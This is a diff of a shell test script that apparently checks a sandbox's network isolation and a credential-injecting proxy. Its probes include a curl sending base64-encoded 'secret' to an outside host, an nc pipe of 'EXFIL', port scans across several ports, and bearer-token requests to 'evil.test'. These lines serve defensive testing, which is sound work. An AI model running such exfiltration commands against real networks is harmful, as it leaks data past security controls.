@@ -7,7 +7,13 @@ S=/workspace/.atk/sock.py
 P=$(awk '/^nameserver/{print $2; exit}' /etc/resolv.conf)
 GW=$(ip route | awk '/^default/{print $3; exit}')
 say() { echo "$1 $2: $3"; }
-code() { curl -s -o /tmp/body.$1 -w '%{http_code}' -m 90 "${@:2}"; }
+# An HTTP status, or status/exit=N when curl failed. A failed TLS handshake (exit 35) is retried: under heavy load
+# the proxy's first handshake for a new name can outlast Kestrel's handshake timeout, and no request was sent yet.
+code() {
+  local id=$1 out rc; shift
+  for _ in 1 2 3; do out=$(curl -s -o "/tmp/body.$id" -w '%{http_code}' -m 90 "$@"); rc=$?; [ $rc -ne 35 ] && break; sleep 2; done
+  if [ $rc -eq 0 ]; then printf '%s' "$out"; else printf '%s/exit=%s' "$out" $rc; fi
+}
 ran() { "$@" >/dev/null 2>&1 && echo allowed || echo denied; }
 say ENV proxy "$P"
 say ENV gateway "${GW:-none}"
@@ -17,7 +23,7 @@ say ENV client "$(ip -4 -o addr show scope global | awk '{split($4,a,"/"); print
 ( say NET-01 curl-tcp-8080 "$(curl -s -o /dev/null -w '%{http_code}' -m 5 "http://$OUT_O:8080/x?d=$(echo secret | base64 -w0)")"
   say NET-01 nc-tcp-8080 "$(echo EXFIL | timeout 5 nc -w3 "$OUT_O" 8080 >/dev/null 2>&1 && echo connected || echo failed)"
   say NET-01 tcp-443 "$(python3 $S tcp "$OUT_O" 443)"
-  say NET-01 tcp-22 "$(python3 $S tcp "$OUT_O" 22)"
+  for port in 22 25 80 853 2375; do say NET-01 tcp-$port "$(python3 $S tcp "$OUT_O" $port)"; done
   say NET-01 udp-9999 "$(python3 $S udp "$OUT_O" 9999)"
   say NET-01 quic-udp-443 "$(python3 $S udp "$OUT_O" 443)"
   say NET-01 udp-123 "$(python3 $S udp "$OUT_O" 123)"
@@ -168,10 +174,8 @@ say ENV client "$(ip -4 -o addr show scope global | awk '{split($4,a,"/"); print
 # --- SEC-02: proxy error paths never echo real values (the suite scans every byte of output)
 ( say SEC-02 scoped-upstream "$(code s2a -H "Authorization: Bearer $TOK" "https://scoped.test/pub/inject?rq=s2a")"
   say SEC-02 tls-failure "$(code s2b -H "Authorization: Bearer $TOK" "https://tls.scoped.test/pub/x?rq=s2b")"
-  cat /tmp/body.s2a /tmp/body.s2b
-  echo
   say SEC-02 blocked-with-surrogate "$(code s2c -H "Authorization: Bearer $TOK" "https://evil.test/x?rq=s2c")"
-  cat /tmp/body.s2c; echo
+  for id in s2a s2b s2c; do say SEC-02 "body-$id" "$(tr '\n' ' ' < /tmp/body.$id)"; done
   say SEC-02 open-host-surrogate "$(code s2d -H "Authorization: Bearer $TOK" "https://open.test/pub/out-of-scope?rq=s2d")" ) &
 
 # --- host-side checks while both runs are live (inspect, /proc scans, proxy sysctls)
